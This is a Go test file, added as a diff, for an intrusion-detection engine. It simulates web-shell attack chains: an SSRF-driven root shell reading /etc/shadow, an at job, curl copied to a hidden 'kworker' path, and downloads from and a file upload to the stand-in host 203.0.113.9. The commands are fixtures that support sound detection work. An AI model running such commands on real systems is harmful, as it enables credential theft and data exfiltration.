@@ -1,0 +1,109 @@
+package detect
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/auditchain/auditchain/parser"
+)
+
+// TestServiceRunsForRequest: a local service (a root ops agent) that runs
+// a shell at once after accepting a connection the web server's own
+// worker made runs it for the web request (SSRF into an internal API):
+// the shell is judged as the web server's child would be. A command it
+// runs after an accept no worker's connect preceded (its own dashboard)
+// is not the web's.
+func TestServiceRunsForRequest(t *testing.T) {
+	for _, c := range []struct {
+		name      string
+		worker    bool // the web worker connects just before the accept
+		dashboard bool // another client's accept comes between
+		want      bool
+	}{
+		{"the worker's connect, the agent's accept, its shell", true, false, true},
+		{"no worker's connect before the accept", false, false, false},
+		{"another client's accept between", true, true, false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			s.exec(700, 1, 0, "root", "/opt/ops", "/usr/bin/python3.11", "python3", "/opt/ops/agent.py")
+			accept := func(port int) {
+				e.Observe(s.next(&parser.Event{Kind: parser.KindAccept, Syscall: "accept4", Success: true, PID: 700, PPID: 1,
+					UID: parser.NewID(0), EUID: parser.NewID(0), Exe: "/usr/bin/python3.11", Peer: parser.Addr{Family: "inet", IP: "127.0.0.1", Port: port}}), s.tree)
+			}
+			if c.worker {
+				e.Observe(s.connect(200, 1, 33, "/usr/sbin/php-fpm8.2", "127.0.0.1", 8061), s.tree)
+			}
+			accept(52058)
+			if c.dashboard {
+				s.t = s.t.Add(300 * time.Millisecond)
+				accept(52070)
+			}
+			fs := e.Observe(s.exec(701, 700, 0, "root", "/opt/ops", "/usr/bin/dash", "/bin/sh", "-c", "head -n 5 /etc/shadow"), s.tree)
+			f := findingOf(fs, "web-server-exploitation")
+			if (f != nil) != c.want {
+				t.Fatalf("web-server-exploitation on the agent's shell: %v, want %v (%v)", f != nil, c.want, ids(fs))
+			}
+			if f != nil && !strings.Contains(f.Reason, "inferred") {
+				t.Errorf("reason %q does not say the link is inferred", f.Reason)
+			}
+		})
+	}
+}
+
+// TestAtJobFiresForIntrusion: a job the web shell queues with at runs
+// later below atd as the same account; atd runs nothing but queued jobs,
+// so its shell is taken as the job (inferred), once per queued job.
+func TestAtJobFiresForIntrusion(t *testing.T) {
+	e, s := webShellScene(t)
+	q := e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/at", "at", "-f", "/tmp/.j", "now", "+", "1", "minute"), s.tree)
+	if f := findingOf(q, "crontab-by-web-user"); f == nil || f.Stage != StagePersistence {
+		t.Fatalf("the queue: %v, want crontab-by-web-user on stage 5", ids(q))
+	}
+	s.t = s.t.Add(time.Minute)
+	s.exec(800, 1, 0, "root", "/", "/usr/sbin/atd", "/usr/sbin/atd", "-f")
+	run := func(pid int) []*Finding {
+		s.exec(pid, 800, 33, "www-data", "/var/www", "/usr/bin/dash", "sh")
+		return e.Observe(s.exec(pid+1, pid, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-s", "-o", "/tmp/.k", "http://203.0.113.9/k"), s.tree)
+	}
+	first := run(810)
+	if len(first) == 0 || !strings.Contains(first[0].Reason, "queued job") {
+		t.Errorf("the job's download: %v %q, want a finding whose reason names the queued job", ids(first), first[0].Reason)
+	}
+	s.t = s.t.Add(time.Hour)
+	if second := run(820); len(second) > 0 && strings.Contains(second[0].Reason, "queued job") {
+		t.Errorf("a second atd run took the one queued job again: %q", second[0].Reason)
+	}
+}
+
+// TestPlantedProgramUsedAgain: a program the intrusion copied into place
+// fires as the plant on its first run by what hooked it; run again it is
+// the tool in use, named as the system program it copies and placed by
+// what it does.
+func TestPlantedProgramUsedAgain(t *testing.T) {
+	if got := copySource("/usr/bin/cp", []string{"cp", "/usr/bin/curl", "/usr/local/lib/.k/kworker"}); got != "/usr/bin/curl" {
+		t.Errorf("copySource = %q", got)
+	}
+	for _, args := range [][]string{{"cp", "-t", "/x", "/usr/bin/curl"}, {"cp", "a", "b", "/x/"}, {"mv", "/usr/bin/curl", "/x"}} {
+		if got := copySource("/usr/bin/"+args[0], args); got != "" {
+			t.Errorf("copySource(%q) = %q, want none", args, got)
+		}
+	}
+	e, s := webShellScene(t)
+	const tool = "/usr/local/lib/.k/kworker"
+	w := e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/cp", "cp", "/usr/bin/curl", tool), s.tree)
+	if findingOf(w, RuleProgramPlanted) == nil {
+		t.Fatalf("the copy: %v, want %s", ids(w), RuleProgramPlanted)
+	}
+	s.exec(900, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
+	s.exec(901, 900, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", tool+" -s http://203.0.113.9/t")
+	f1 := findingOf(e.Observe(s.exec(902, 901, 33, "www-data", "/var/www", tool, tool, "-s", "http://203.0.113.9/t"), s.tree), RulePlantedFileRun)
+	if f1 == nil || f1.Stage != StagePersistence || f1.Title != "Planted Persistence Fired" {
+		t.Fatalf("first run: %+v, want the plant firing on stage 5", f1)
+	}
+	f2 := findingOf(e.Observe(s.exec(903, 901, 33, "www-data", "/var/www", tool, tool, "-s", "-F", "f=@/tmp/.d.tgz", "http://203.0.113.9/u"), s.tree), RulePlantedFileRun)
+	if f2 == nil || f2.Title != "Planted Program Used Again" || f2.Stage != StageExfiltrationImpact {
+		t.Fatalf("second run: %+v, want the tool in use, placed as the curl upload it is (stage 8)", f2)
+	}
+}
